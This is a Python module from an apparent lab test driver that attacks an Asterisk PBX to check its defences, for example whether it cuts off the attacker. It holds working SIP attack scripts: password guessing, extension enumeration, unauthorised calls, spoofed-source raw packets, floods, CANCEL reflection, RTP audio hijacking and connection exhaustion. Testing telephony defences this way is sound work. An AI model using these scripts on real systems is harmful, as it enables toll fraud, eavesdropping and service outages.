"""What attackers do, from a lab host: guess passwords, ask for accounts, call, forge their address."""

from __future__ import annotations

import itertools
from dataclasses import dataclass

from lab.driver.agents import Pbx
from lab.driver.machine import Machine, Process

# Prints a line "<seconds since the start> <status, or silence>" an offence, and ends after two silent ones.
_OFFEND = r"""
import hashlib, re, socket, sys, time
kind, host = sys.argv[1:3]
port, interval, most = int(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5])
channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
channel.connect((host, port))
channel.settimeout(2)
own = channel.getsockname()
start = time.monotonic()

def ask(method, user, serial, more=""):
    lines = [
        f"{method} sip:{user}@{host}:{port} SIP/2.0",
        f"Via: SIP/2.0/UDP {own[0]}:{own[1]};branch=z9hG4bK-{own[1]}-{serial}-{len(more)};rport",
        "Max-Forwards: 70", f"From: <sip:{user}@{host}>;tag=a{serial}", f"To: <sip:{user}@{host}>",
        f"Call-ID: {kind}-{own[1]}-{serial}@{own[0]}", f"CSeq: {2 if more else 1} {method}",
        f"Contact: <sip:{user}@{own[0]}:{own[1]}>", *([more] if more else []), "Content-Length: 0", "", "",
    ]
    channel.send("\r\n".join(lines).encode())
    while True:
        answer = channel.recv(65535).decode()
        if f"-{own[1]}-{serial}@" in answer and not answer.startswith("SIP/2.0 1"):
            return answer

def offend(serial):
    if kind == "enumerate":
        return ask("REGISTER", f"{7000 + serial}", serial)
    if kind == "call":
        return ask("INVITE", "0015551234567", serial)
    challenged = ask("REGISTER", "101", serial)
    nonce = re.search('nonce="([^"]+)"', challenged)[1]
    more = (f'Authorization: Digest username="101", realm="asterisk", nonce="{nonce}", uri="sip:101@{host}", '
            f'response="{hashlib.md5(str(serial).encode()).hexdigest()}", algorithm=MD5')
    return ask("REGISTER", "101", serial, more)

silent = 0
for serial in range(1, most + 1):
    try:
        word = offend(serial).split()[1]
        silent = 0
    except (TimeoutError, ConnectionError):
        word, silent = "silence", silent + 1
    print(f"{time.monotonic() - start:.2f} {word}", flush=True)
    if silent == 2:
        break
    time.sleep(interval)
"""

_FORGE = r"""
import socket, struct, sys, time
source, target, text = sys.argv[1], sys.argv[2], sys.argv[6]
port, count, interval = int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
channel = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for serial in range(count):
    payload = text.replace("SERIAL", str(serial)).encode()
    datagram = struct.pack(">HHHH", 5060, port, 8 + len(payload), 0) + payload
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), serial + 1, 0, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    channel.sendto(head + datagram, (target, 0))
    time.sleep(interval)
"""

_FLOOD = r"""
import socket, sys, time
host, port, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
text = ("OPTIONS sip:{0} SIP/2.0\r\nVia: SIP/2.0/UDP 198.18.99.9:5060;branch=z9hG4bK-flood-SERIAL\r\n"
        "Max-Forwards: 70\r\nFrom: <sip:x@{0}>;tag=f\r\nTo: <sip:{0}>\r\nCall-ID: flood-SERIAL\r\n"
        "CSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n").format(host)
end, sent = time.monotonic() + seconds, 0
while time.monotonic() < end:
    for _ in range(max(1, rate // 100)):
        channel.sendto(text.replace("SERIAL", str(sent)).encode(), (host, port))
        sent += 1
    time.sleep(0.01)
print(sent)
"""


_CANCELS = r"""
import socket, sys, time
host, port, maddr = sys.argv[1], int(sys.argv[2]), sys.argv[3]
count, rate = int(sys.argv[4]), int(sys.argv[5])
channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
text = ("{1} sip:{0} SIP/2.0\r\nVia: SIP/2.0/UDP 198.18.99.9:5060;branch=z9hG4bK-c-SERIAL;maddr={2}\r\n"
        "Max-Forwards: 70\r\nFrom: <sip:x@{0}>;tag=f\r\nTo: <sip:{0}>\r\nCall-ID: cancel-SERIAL\r\n"
        "CSeq: 1 {1}\r\nContent-Length: 0\r\n\r\n").format(host, "CANCEL", maddr)
for serial in range(count):
    channel.sendto(text.replace("SERIAL", str(serial)).encode(), (host, port))
    if serial % 10 == 9:
        time.sleep(10 / rate)
"""

# Four packets in a row to each port make Asterisk take their sender for the phone. Prints what comes back.
_STEAL = r"""
import select, socket, struct, sys, time
host, first, last, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
channel.setblocking(False)
end, stolen, serial = time.monotonic() + seconds, 0, 0
while time.monotonic() < end:
    for port in range(first, last + 1, 2):
        serial += 1
        packet = struct.pack(">BBHII", 0x80, 0, serial & 0xFFFF, serial * 160, 0xBAD) + b"\xff" * 160
        for _ in range(4):
            channel.sendto(packet, (host, port))
    while select.select([channel], [], [], 0.02)[0]:
        try:
            channel.recv(65535)
            stolen += 1
        except OSError:
            pass  # word by ICMP that nobody listens there
print(stolen)
"""

_CONNECT = r"""
import socket, sys, time
host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
channels = []
for _ in range(count):
    channel = socket.socket()
    channel.setblocking(False)
    channel.connect_ex((host, port))
    channels.append(channel)
time.sleep(2)
print(sum(channel.connect_ex((host, port)) in (0, 106) for channel in channels), flush=True)
time.sleep(seconds)
"""

_FLOOD_FORGED = r"""
import random, socket, struct, sys, time
target, port, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
networks = sys.argv[5].split(",")
channel = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
text = ("OPTIONS sip:{0} SIP/2.0\r\nVia: SIP/2.0/UDP 198.18.99.9:5060;branch=z9hG4bK-flood\r\n"
        "Max-Forwards: 70\r\nFrom: <sip:x@{0}>;tag=f\r\nTo: <sip:{0}>\r\nCall-ID: flood\r\n"
        "CSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n").format(target).encode()
begin, sent = time.monotonic(), 0
while (now := time.monotonic() - begin) < seconds:
    while sent < now * rate:
        source = socket.inet_aton(f"{random.choice(networks)}.{random.randrange(120, 250)}")
        datagram = struct.pack(">HHHH", random.randrange(1024, 65535), port, 8 + len(text), 0) + text
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), sent & 0xFFFF, 0, 64, 17, 0,
                           source, socket.inet_aton(target))
        channel.sendto(head + datagram, (target, 0))
        sent += 1
    time.sleep(0.001)
print(sent)
"""

_KNOCK = """
import socket, sys
try:
    socket.create_connection((sys.argv[1], int(sys.argv[2])), float(sys.argv[3])).close()
    print("open")
except ConnectionRefusedError:
    print("refused")
except TimeoutError:
    print("silence")
"""

_STRAYS = r"""
import socket, sys, time
host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
request = ("{0} sip:101@{1} SIP/2.0\r\nVia: SIP/2.0/UDP 198.18.99.9:5060;branch=z9hG4bK-s-{2}\r\n"
           "Max-Forwards: 70\r\nFrom: <sip:x@{1}>;tag=f\r\nTo: <sip:101@{1}>;tag=t\r\n"
           "Call-ID: stray-{2}\r\nCSeq: 1 {0}\r\nContent-Length: 0\r\n\r\n")
answer = ("SIP/2.0 200 OK\r\nVia: SIP/2.0/UDP {1}:5060;branch=z9hG4bK-s-{2}\r\nFrom: <sip:x@{1}>;tag=f\r\n"
          "To: <sip:101@{1}>;tag=t\r\nCall-ID: stray-{2}\r\nCSeq: 1 INVITE\r\nContent-Length: 0\r\n\r\n")
texts = {"BYE": request, "ACK": request, "CANCEL": request, "response": answer, "rubbish": "{2}\0\xff no SIP"}
text = texts[sys.argv[4]]
for serial in range(count):
    channel.sendto(text.format(sys.argv[4], host, serial).encode(), (host, port))
    time.sleep(0.06)
"""

_ECHO = r"""
import socket, sys
channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
channel.bind((sys.argv[1], int(sys.argv[2])))
while True:
    channel.sendto(*channel.recvfrom(2048))
"""

_CALL_OUT = """
import socket, sys
channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
channel.settimeout(float(sys.argv[3]))
channel.sendto(b"are you there", (sys.argv[1], int(sys.argv[2])))
try:
    channel.recv(2048)
    print("answer")
except TimeoutError:
    print("silence")
"""
_serial = itertools.count(1)


@dataclass(frozen=True)
class Attack:
    """What an attacker saw: the status of each offence's answer, None for silence."""

    statuses: tuple[int | None, ...]

    @property
    def was_cut_off(self) -> bool:
        """Whether it was answered first, and then no more."""
        return self.statuses[-2:] == (None, None) and any(self.statuses)

    @property
    def answered(self) -> int:
        """How many offences were answered."""
        return sum(status is not None for status in self.statuses)


def offend(machine: Machine, pbx: Pbx, kind: str, *, interval: float = 0.1, most: int = 60) -> Attack:
    """Offend again and again until nothing is answered any more.

    Args:
        machine: where the attacker sits.
        pbx: whom it attacks.
        kind: ``guess`` (passwords of 101), ``enumerate`` (accounts), or ``call``.
        interval: seconds between two offences.
        most: offences, if it is never cut off.
    """
    arguments = [kind, pbx.address, str(pbx.sip_port), str(interval), str(most)]
    printed = machine.run(["python3", "-c", _OFFEND, *arguments], 120)
    words = [line.split()[1] for line in printed.splitlines()]
    return Attack(tuple(None if word == "silence" else int(word) for word in words))


def forge(
    machine: Machine,
    pbx: Pbx,
    source: str,
    *,
    method: str = "REGISTER",
    number: str = "",
    count: int = 30,
    rate: float = 50,
) -> Process:
    """Send requests under another's address, in the background.

    Args:
        machine: who really sends.
        pbx: whom it attacks.
        source: address in the packets and in the requests.
        method: REGISTER asks for an account that does not exist.
        number: whom it is for; empty for the PBX itself.
        count: how many requests.
        rate: requests a second.
    """
    text = "\r\n".join(
        (
            f"{method} sip:{number + '@' if number else ''}{pbx.target} SIP/2.0",
            f"Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bK-forged-{source}-{next(_serial)}-SERIAL;rport",
            "Max-Forwards: 70",
            "From: <sip:nobody@forged.example>;tag=forgedSERIAL",
            "To: <sip:nobody@forged.example>",
            f"Call-ID: forged-{source}-{next(_serial)}-SERIAL",
            f"CSeq: 1 {method}",
            f"Contact: <sip:nobody@{source}>",
            "Content-Length: 0",
            "",
            "",
        )
    )
    arguments = [source, pbx.address, str(pbx.sip_port), str(count), str(1 / rate), text]
    return machine.start(["python3", "-c", _FORGE, *arguments], "forge")


def flood(machine: Machine, pbx: Pbx, *, rate: int, seconds: float) -> Process:
    """Send so many requests a second, for so long, in the background."""
    return machine.start(
        ["python3", "-c", _FLOOD, pbx.address, str(pbx.sip_port), str(rate), str(seconds)], "flood"
    )


def knock(machine: Machine, address: str, port: int, seconds: float = 1.0, into: tuple[str, ...] = ()) -> str:
    """Try to connect over TCP, IPv4 or IPv6.

    Args:
        machine: who connects.
        address: whom to.
        port: where.
        seconds: how long to wait for an answer.
        into: command before it, which enters another network of the machine.

    Returns:
        ``open`` or ``refused``, which both are answers, or ``silence``.

    Raises:
        DriverError: the address cannot be reached at all.
    """
    return machine.run([*into, "python3", "-c", _KNOCK, address, str(port), str(seconds)]).strip()


def echo(machine: Machine, address: str, port: int, into: tuple[str, ...] = ()) -> Process:
    """Send every datagram back that comes to an address of the machine, in the background."""
    return machine.start([*into, "python3", "-c", _ECHO, address, str(port)], "echo")


def call_out(
    machine: Machine, address: str, port: int, seconds: float = 1.0, into: tuple[str, ...] = ()
) -> str:
    """Send one datagram, and return ``answer`` or ``silence``. Arguments as of ``knock``."""
    return machine.run([*into, "python3", "-c", _CALL_OUT, address, str(port), str(seconds)]).strip()


def strays(machine: Machine, pbx: Pbx, kind: str, count: int = 50) -> Process:
    """Send datagrams that begin nothing, in the background.

    Args:
        machine: who sends.
        pbx: whom to.
        kind: ``BYE``, ``ACK``, ``CANCEL``, ``response`` or ``rubbish``.
        count: how many.
    """
    return machine.start(
        ["python3", "-c", _STRAYS, pbx.address, str(pbx.sip_port), str(count), kind], "strays"
    )


def cancels(machine: Machine, pbx: Pbx, maddr: str, *, count: int = 3000, rate: int = 3000) -> Process:
    """Send CANCELs whose answers shall go to another address, in the background."""
    arguments = [pbx.address, str(pbx.sip_port), maddr, str(count), str(rate)]
    return machine.start(["python3", "-c", _CANCELS, *arguments], "cancels")


def steal_audio(machine: Machine, pbx: Pbx, ports: tuple[int, int], seconds: float) -> Process:
    """Send audio to every port of the PBX, and print how many packets came back."""
    arguments = [pbx.address, *map(str, ports), str(seconds)]
    return machine.start(["python3", "-c", _STEAL, *arguments], "steal")


def hold_connections(machine: Machine, pbx: Pbx, count: int, seconds: float) -> Process:
    """Open idle TCP connections; print how many were taken, and keep them."""
    arguments = [pbx.address, str(pbx.sip_port), str(count), str(seconds)]
    return machine.start(["python3", "-c", _CONNECT, *arguments], "connect")


def flood_forged(machine: Machine, pbx: Pbx, *, rate: int, seconds: float) -> Process:
    """Send requests from changing addresses of the lab's networks, where nobody lives; print how many."""
    networks = "198.18.99,198.18.100"
    arguments = [pbx.address, str(pbx.sip_port), str(rate), str(seconds), networks]
    return machine.start(["python3", "-c", _FLOOD_FORGED, *arguments], "flood")
